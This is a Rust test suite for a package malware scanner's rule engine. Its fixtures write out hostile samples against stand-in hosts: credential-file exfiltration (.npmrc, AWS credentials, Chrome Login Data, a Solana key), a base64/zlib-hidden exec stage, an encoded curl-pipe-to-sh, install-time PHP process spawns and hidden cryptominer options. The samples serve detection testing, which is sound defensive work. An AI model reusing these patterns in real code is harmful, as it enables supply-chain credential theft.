//! The rule engine as a rule writer and a user meet it: the shipped set's
//! examples, hostile rule files, hidden stages, minified bundles, and
//! findings that carry the rule set's version and their reachability.

use std::io::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use base64::Engine as _;
use paddock_proto::v1::{Ecosystem, Finding, PackageRef, Reachability, StaticResult};
use paddock_static::rules::{self, selftest, RuleSet, RuleSources};
use paddock_static::{analyze_tree, StaticConfig};

fn analyse_in(dir: &Path, files: &[(&str, &[u8])], eco: Ecosystem) -> StaticResult {
    for (path, body) in files {
        let p = dir.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    analyze_tree(
        dir,
        PackageRef {
            ecosystem: eco as i32,
            name: "sample".into(),
            version: "1.0.0".into(),
        },
        None,
        &StaticConfig::default(),
    )
}

fn analyse(files: &[(&str, &[u8])], eco: Ecosystem) -> StaticResult {
    let dir = tempfile::tempdir().unwrap();
    analyse_in(dir.path(), files, eco)
}

fn finding<'a>(result: &'a StaticResult, id: &str) -> Option<&'a Finding> {
    result.findings.iter().find(|f| f.rule_id == id)
}

fn ids(result: &StaticResult) -> Vec<&str> {
    result.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

#[test]
fn every_shipped_rule_passes_its_examples_and_has_both_kinds() {
    let set = rules::builtin();
    let report = selftest::test(set, &|_| true, true);
    assert!(report.passed(), "{}", report.failures.join("\n"));
    assert!(report.rules >= 40, "{} rules", report.rules);
    assert!(report.examples >= 2 * report.rules);
    for rule in set.rules() {
        assert!(
            !rule.title.is_empty() && !rule.description.is_empty(),
            "{}",
            rule.id
        );
        assert!((0.0..=1.0).contains(&rule.confidence), "{}", rule.id);
    }
}

#[test]
fn findings_record_the_rule_id_the_set_version_technique_and_reachability() {
    let r = analyse(
        &[
            ("package.json", br#"{"name":"sample","version":"1.0.0","main":"index.js"}"#),
            ("index.js", b"const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://hooks.example/x', { method: 'POST', body: k });\n"),
        ],
        Ecosystem::Npm,
    );
    let f = finding(&r, "threat.exfiltrate-credential-files")
        .unwrap_or_else(|| panic!("{:?}", ids(&r)));
    assert_eq!(f.rule_version, rules::builtin_version());
    assert_eq!(f.technique, "T1552.001");
    assert_eq!(f.reachability(), Reachability::Import);
    assert_eq!(f.evidence[0].file, "index.js");
    assert_eq!(f.evidence[0].line, 3);
}

#[test]
fn a_threat_in_a_test_file_is_unreached_and_still_reported() {
    let r = analyse(
        &[
            (
                "setup.py",
                b"from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
            ),
            ("sample/__init__.py", b"X = 1\n"),
            (
                "tests/test_run.py",
                b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            ),
        ],
        Ecosystem::Pypi,
    );
    let f = finding(&r, "threat.exec-decoded").unwrap_or_else(|| panic!("{:?}", ids(&r)));
    assert_eq!(f.reachability(), Reachability::Unreached);
}

#[test]
fn python_outside_every_package_of_an_sdist_is_unreached_unless_something_runs_it() {
    let decoded_exec = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".as_slice();
    let r = analyse(
        &[
            (
                "setup.py",
                b"from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
            ),
            ("sample/__init__.py", b"X = 1\n"),
            ("scripts/internal/bootstrap.py", decoded_exec),
        ],
        Ecosystem::Pypi,
    );
    let f = finding(&r, "threat.exec-decoded").unwrap_or_else(|| panic!("{:?}", ids(&r)));
    assert_eq!(f.reachability(), Reachability::Unreached);

    // The same file in the package, or a top-level module, runs on import;
    // one that setup.py imports runs at install.
    for (files, reach) in [
        (vec![("sample/boot.py", decoded_exec)], Reachability::Import),
        (vec![("boot.py", decoded_exec)], Reachability::Import),
        (
            vec![
                ("scripts/boot.py", decoded_exec),
                ("setup.py", b"import scripts.boot\n".as_slice()),
            ],
            Reachability::Install,
        ),
    ] {
        let mut all = vec![("sample/__init__.py", b"X = 1\n".as_slice())];
        all.extend(files.iter().copied());
        if !files.iter().any(|(p, _)| *p == "setup.py") {
            all.push((
                "setup.py",
                b"from setuptools import setup\nsetup()\n".as_slice(),
            ));
        }
        let r = analyse(&all, Ecosystem::Pypi);
        let f = finding(&r, "threat.exec-decoded").unwrap_or_else(|| panic!("{:?}", ids(&r)));
        assert_eq!(f.reachability(), reach, "{files:?}");
    }
}

/// base64 → zlib → Python that reads a credential file and sends it.
fn three_layer_payload() -> String {
    let code = "import os, urllib.request\nd = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen('https://c2.example/u', data=d.encode())\n";
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(code.as_bytes()).unwrap();
    base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap())
}

#[test]
fn a_three_layer_hidden_stage_is_found_with_its_layers() {
    let src = format!(
        "import zlib, base64\n\n_p = '{}'\nexec(zlib.decompress(base64.b64decode(_p)))\n",
        three_layer_payload()
    );
    let r = analyse(
        &[
            (
                "setup.py",
                b"from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
            ),
            ("sample/__init__.py", src.as_bytes()),
        ],
        Ecosystem::Pypi,
    );
    let f = finding(&r, "threat.exfiltrate-credential-files")
        .unwrap_or_else(|| panic!("{:?}", ids(&r)));
    let e = &f.evidence[0];
    assert_eq!(e.file, "sample/__init__.py");
    assert_eq!(e.layers, ["base64", "zlib", "python"], "{e:?}");
    assert_eq!(e.line, 3, "the line of the literal the stage came from");
    assert!(
        finding(&r, "signal.hidden-stage").is_some(),
        "{:?}",
        ids(&r)
    );
    assert!(
        finding(&r, "threat.exec-decoded").is_some(),
        "{:?}",
        ids(&r)
    );
}

#[test]
fn decoding_bombs_stop_at_their_limits_and_say_so() {
    // Deep nesting: base64 of base64 … twenty times.
    let mut deep = b"console.log(1)".to_vec();
    for _ in 0..20 {
        deep = base64::engine::general_purpose::STANDARD
            .encode(&deep)
            .into_bytes();
    }
    // A huge expansion: 64 MiB of zeros, zlib-compressed, then base64.
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(&vec![b'a'; 64 << 20]).unwrap();
    let bomb = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let started = Instant::now();
    let r = analyse(
        &[
            ("package.json", br#"{"name":"sample","version":"1.0.0"}"#),
            (
                "deep.js",
                format!("module.exports = '{}';\n", String::from_utf8(deep).unwrap()).as_bytes(),
            ),
            (
                "bomb.js",
                format!("module.exports = '{bomb}';\n").as_bytes(),
            ),
        ],
        Ecosystem::Npm,
    );
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
    let f = finding(&r, "signal.decoding-limit").unwrap_or_else(|| panic!("{:?}", ids(&r)));
    let text: Vec<String> = f
        .evidence
        .iter()
        .map(|e| format!("{} {}", e.file, e.detail))
        .collect();
    assert!(
        text.iter()
            .any(|t| t.starts_with("deep.js") && t.contains("layers deep")),
        "{text:?}"
    );
    assert!(
        text.iter()
            .any(|t| t.starts_with("bomb.js") && t.contains("bytes")),
        "{text:?}"
    );
}

#[test]
fn minified_bundles_under_dist_are_judged_like_plain_files() {
    let code = b"!function(){var e=require('child_process'),t=Buffer.from('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9zIHwgc2g=','base64').toString();e.execSync(t)}();\n";
    let plain = analyse(
        &[
            (
                "package.json",
                br#"{"name":"sample","version":"1.0.0","main":"plain.js"}"#,
            ),
            ("plain.js", code),
        ],
        Ecosystem::Npm,
    );
    let dist = analyse(
        &[
            (
                "package.json",
                br#"{"name":"sample","version":"1.0.0","main":"dist/x.min.js"}"#,
            ),
            ("dist/x.min.js", code),
        ],
        Ecosystem::Npm,
    );
    let threats = |r: &StaticResult| -> Vec<(String, i32, i32)> {
        let mut v: Vec<_> = r
            .findings
            .iter()
            .filter(|f| f.rule_id.starts_with("threat."))
            .map(|f| (f.rule_id.clone(), f.severity, f.reachability))
            .collect();
        v.sort();
        v
    };
    assert!(!threats(&plain).is_empty(), "{:?}", ids(&plain));
    assert_eq!(threats(&plain), threats(&dist));
}

fn load_with(name: &str, text: &str) -> Result<RuleSet, rules::RuleError> {
    let mut sources = RuleSources::builtin();
    sources.add_text(name, text);
    RuleSet::load(&sources)
}

#[test]
fn a_rule_file_with_a_syntax_error_names_the_file() {
    let err = load_with("mine/bad.toml", "[[rule]]\nid = \"threat.x\"\ntitle = \n")
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("mine/bad.toml:"), "{err}");
    assert!(err.contains("line 3"), "{err}");
}

#[test]
fn a_yara_rule_that_does_not_compile_names_the_file_and_the_rule() {
    let text = "[[rule]]\nid = \"threat.mine\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nyara = '''rule r { condition: $missing }'''\n";
    let err = load_with("mine/yara.toml", text).unwrap_err().to_string();
    assert!(
        err.contains("mine/yara.toml") && err.contains("threat.mine"),
        "{err}"
    );
    let err = load_with(
        "mine/plain.yar",
        "rule broken { strings: $a = \"x\" condition: $a and }",
    )
    .unwrap_err()
    .to_string();
    assert!(err.contains("mine/plain.yar"), "{err}");
}

#[test]
fn a_query_that_does_not_compile_names_the_file_and_the_rule() {
    let text = "[[rule]]\nid = \"threat.q\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nquery = { language = \"python\", pattern = \"(call function: (nonsense_node) @hit\" }\n";
    let err = load_with("mine/q.toml", text).unwrap_err().to_string();
    assert!(
        err.contains("mine/q.toml") && err.contains("threat.q"),
        "{err}"
    );
}

#[test]
fn a_sanitiser_must_name_real_classes_and_only_a_sanitiser_clears() {
    let flow = "[[class]]\nid = \"my-lookup\"\nkind = \"sanitiser\"\ndescription = \"d\"\ncalls = [\"lookup\"]\nclears = [\"no-such-class\"]\n";
    let err = load_with("mine/flow.toml", flow).unwrap_err().to_string();
    assert!(
        err.contains("mine/flow.toml")
            && err.contains("my-lookup")
            && err.contains("no-such-class"),
        "{err}"
    );
    let flow = "[[class]]\nid = \"my-source\"\nkind = \"source\"\ndescription = \"d\"\ncalls = [\"lookup\"]\nclears = [\"env-var\"]\n";
    let err = load_with("mine/flow.toml", flow).unwrap_err().to_string();
    assert!(
        err.contains("my-source") && err.contains("sanitiser"),
        "{err}"
    );
}

#[test]
fn pathological_patterns_are_refused_or_bounded() {
    // A regular expression too big to compile: refused, naming the class.
    let flow = "[[class]]\nid = \"mine\"\nkind = \"source\"\ndescription = \"d\"\nstrings = ['(x{1000}){1000}']\n";
    let err = load_with("mine/flow.toml", flow).unwrap_err().to_string();
    assert!(
        err.contains("mine/flow.toml") && err.contains("mine"),
        "{err}"
    );
    // A backtracking-heavy YARA regex and a query matching every node:
    // they compile, and the scan of a hostile file stays bounded.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("slow.toml"),
        "[[rule]]\nid = \"threat.slow\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nyara = '''rule slow { strings: $a = /([a-z]+[a-z]+)+[0-9]/ condition: $a }'''\n\n[[rule]]\nid = \"threat.every-node\"\ntitle = \"t\"\nseverity = \"low\"\ndescription = \"d\"\n[rule.match]\nquery = { language = \"javascript\", pattern = \"(_) @hit\" }\n",
    )
    .unwrap();
    let set = RuleSet::with_user_dirs(&[dir.path().to_path_buf()]).unwrap();
    let pkg = tempfile::tempdir().unwrap();
    let body = format!("var s = '{}';\n", "a".repeat(2 << 20));
    std::fs::write(pkg.path().join("index.js"), &body).unwrap();
    let started = Instant::now();
    let r = paddock_static::analyze::analyze_tree_with(
        pkg.path(),
        PackageRef {
            ecosystem: Ecosystem::Npm as i32,
            name: "sample".into(),
            version: "1.0.0".into(),
        },
        None,
        &StaticConfig::default(),
        &set,
        None,
    );
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
    assert!(!r.files.is_empty());
}

#[test]
fn user_rule_directories_load_beside_the_shipped_set_and_fire() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("mine.toml"),
        "[[rule]]\nid = \"threat.mine-marker\"\ntitle = \"calls the marker\"\nseverity = \"high\"\nconfidence = 0.9\ndescription = \"d\"\n[rule.match]\nquery = { language = \"python\", pattern = '(call function: (identifier) @f (#eq? @f \"paddock_marker\")) @hit' }\n[[rule.example]]\nexpect = \"match\"\nfile = \"a.py\"\ncode = \"paddock_marker()\\n\"\n[[rule.example]]\nexpect = \"no-match\"\nfile = \"a.py\"\ncode = \"other()\\n\"\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("mine.yar"),
        "rule marker_text {\n  meta:\n    severity = \"medium\"\n    title = \"carries the marker text\"\n  strings:\n    $a = \"PADDOCK-MARKER-TEXT\"\n  condition:\n    $a\n}\n",
    )
    .unwrap();
    let set = rules::for_dirs(&[dir.path().to_path_buf()]).unwrap();
    assert!(
        set.version()
            .starts_with(&format!("{}+local.", rules::builtin_version())),
        "{}",
        set.version()
    );
    let report = selftest::test(&set, &|r| r.id == "threat.mine-marker", false);
    assert!(
        report.passed() && report.examples == 2,
        "{:?}",
        report.failures
    );
    let pkg = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(pkg.path().join("sample")).unwrap();
    std::fs::write(
        pkg.path().join("setup.py"),
        "from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
    )
    .unwrap();
    std::fs::write(
        pkg.path().join("sample/__init__.py"),
        "# PADDOCK-MARKER-TEXT\npaddock_marker()\n",
    )
    .unwrap();
    let config = StaticConfig {
        rules: vec![dir.path().to_path_buf()],
        ..StaticConfig::default()
    };
    let r = analyze_tree(
        pkg.path(),
        PackageRef {
            ecosystem: Ecosystem::Pypi as i32,
            name: "sample".into(),
            version: "1.0.0".into(),
        },
        None,
        &config,
    );
    let q = finding(&r, "threat.mine-marker").unwrap_or_else(|| panic!("{:?}", ids(&r)));
    assert_eq!(
        (q.evidence[0].file.as_str(), q.evidence[0].line),
        ("sample/__init__.py", 2)
    );
    assert_eq!(q.rule_version, set.version());
    let y = finding(&r, "threat.yara.marker_text").unwrap_or_else(|| panic!("{:?}", ids(&r)));
    assert_eq!(y.title, "carries the marker text");
    // A directory that does not load fails the analysis, saying why.
    let bad = tempfile::tempdir().unwrap();
    std::fs::write(bad.path().join("x.toml"), "[[rule]\n").unwrap();
    let config = StaticConfig {
        rules: vec![bad.path().to_path_buf()],
        ..StaticConfig::default()
    };
    let r = analyze_tree(pkg.path(), PackageRef::default(), None, &config);
    assert!(r.status_detail.contains("x.toml"), "{}", r.status_detail);
}

#[test]
fn values_are_followed_into_and_out_of_another_file() {
    // The stolen files are gathered in one module and sent from another:
    // neither file alone holds the flow.
    let collect = br#"
const fs = require('fs'), os = require('os'), path = require('path');
function roots() { return [path.join(os.homedir(), '.config', 'google-chrome')]; }
function collect() {
  const out = {};
  for (const r of roots()) out[r] = fs.readFileSync(path.join(r, 'Default', 'Login Data')).toString('base64');
  return out;
}
module.exports = { collect };
"#;
    let send = br#"
const https = require('https');
function upload(files) {
  const req = https.request({ hostname: 'c.example', method: 'POST' });
  req.end(JSON.stringify(files));
}
module.exports = { upload };
"#;
    let main = br#"
const { collect } = require('./collect');
const { upload } = require('./send');
module.exports = function sync() { upload(collect()); };
"#;
    let result = analyse(
        &[
            (
                "package/package.json",
                br#"{"name":"sample","version":"1.0.0","main":"index.js"}"#,
            ),
            ("package/index.js", main),
            ("package/collect.js", collect),
            ("package/send.js", send),
        ],
        Ecosystem::Npm,
    );
    let f = finding(&result, "threat.exfiltrate-credential-files")
        .unwrap_or_else(|| panic!("no cross-file flow: {:?}", ids(&result)));
    let e = &f.evidence[0];
    assert!(
        e.detail.contains("through upload()") && e.detail.contains("package/index.js"),
        "{e:?}"
    );

    // The same files with the upload given something harmless: nothing.
    let harmless = br#"
const { upload } = require('./send');
module.exports = function ping() { upload({ ok: true }); };
"#;
    let result = analyse(
        &[
            (
                "package/package.json",
                br#"{"name":"sample","version":"1.0.0","main":"index.js"}"#,
            ),
            ("package/index.js", harmless),
            ("package/send.js", send),
        ],
        Ecosystem::Npm,
    );
    assert!(
        finding(&result, "threat.exfiltrate-credential-files").is_none(),
        "{:?}",
        ids(&result)
    );
}

#[test]
fn rust_modules_are_reached_and_followed() {
    // `mod packer;` in lib.rs, `use crate::sink;` in packer.rs, and a
    // buffer filled by a read from a connection.
    let lib = b"mod packer;\nmod sink;\npub fn init() { packer::pack(); }\n";
    let packer = br#"
use std::fs;
use crate::sink;
pub fn pack() {
    let home = std::env::var("HOME").unwrap_or_default();
    let key = fs::read_to_string(format!("{}/.config/solana/id.json", home)).unwrap_or_default();
    sink::post(&key);
}
"#;
    let sink = br#"
use std::io::Write;
use std::net::TcpStream;
pub fn post(body: &str) -> bool {
    let mut s = match TcpStream::connect("rpc.example:80") { Ok(s) => s, Err(_) => return false };
    s.write_all(body.as_bytes()).is_ok()
}
"#;
    let result = analyse(
        &[
            (
                "c-1.0.0/Cargo.toml",
                b"[package]\nname = \"c\"\nversion = \"1.0.0\"\n",
            ),
            ("c-1.0.0/src/lib.rs", lib),
            ("c-1.0.0/src/packer.rs", packer),
            ("c-1.0.0/src/sink.rs", sink),
        ],
        Ecosystem::CratesIo,
    );
    let f = finding(&result, "threat.exfiltrate-credential-files")
        .unwrap_or_else(|| panic!("{:?}", ids(&result)));
    // packer.rs is reached from lib.rs: it runs when the crate is used.
    assert_eq!(f.reachability(), Reachability::Import, "{f:?}");
}

#[test]
fn a_composer_plugins_classes_and_what_they_include_run_at_install() {
    // Composer instantiates every `extra.class` of a plugin when it is
    // installed, after loading the plugin's `autoload.files`; a script
    // callback names its class. The rest of the package is library code.
    let manifest = br#"{"name":"acme/tools","type":"composer-plugin",
        "autoload":{"psr-4":{"Acme\\Tools\\":"src/"},"files":["src/boot.php"]},
        "extra":{"class":["Acme\\Tools\\Plugin","Acme\\Tools\\Second"]},
        "scripts":{"post-install-cmd":["Acme\\Tools\\Hooks::run"]}}"#;
    let spawn = |what: &str| format!("<?php\nsystem('{what}');\n").into_bytes();
    let second =
        b"<?php\nnamespace Acme\\Tools;\nrequire_once dirname(__DIR__) . '/lib/helper.php';\n"
            .to_vec();
    let result = analyse(
        &[
            ("t/composer.json", manifest),
            ("t/src/Plugin.php", &spawn("plugin")),
            ("t/src/Second.php", &second),
            ("t/lib/helper.php", &spawn("helper")),
            ("t/src/boot.php", &spawn("boot")),
            ("t/src/Hooks.php", &spawn("hooks")),
            ("t/src/Library.php", &spawn("library")),
        ],
        Ecosystem::Packagist,
    );
    let f = finding(&result, "threat.install-process-spawn")
        .unwrap_or_else(|| panic!("{:?}", ids(&result)));
    let mut files: Vec<&str> = f.evidence.iter().map(|e| e.file.as_str()).collect();
    files.sort_unstable();
    assert_eq!(
        files,
        [
            "t/lib/helper.php",
            "t/src/Hooks.php",
            "t/src/Plugin.php",
            "t/src/boot.php"
        ]
    );
    let library = finding(&result, "capability.process-spawn").unwrap();
    assert!(
        library
            .evidence
            .iter()
            .any(|e| e.file == "t/src/Library.php"),
        "{library:?}"
    );
}

#[test]
fn decoded_text_counts_for_the_string_classes() {
    // A miner's options hidden as hex: no code comes out, but what does
    // names the miner.
    let hidden = hex::encode("--donate-level 1 -o pool.example:3333 --cpu-max-threads-hint 50");
    let code = format!(
        "require 'open3'\nARGS = ['{hidden}'].pack('H*')\nOpen3.capture2('/tmp/.cache/kw', ARGS)\n"
    );
    let result = analyse(&[("lib/sample.rb", code.as_bytes())], Ecosystem::Rubygems);
    let f = finding(&result, "threat.cryptominer").unwrap_or_else(|| panic!("{:?}", ids(&result)));
    assert!(
        f.evidence
            .iter()
            .any(|e| e.snippet.starts_with("decoded (hex)")),
        "{f:?}"
    );
}
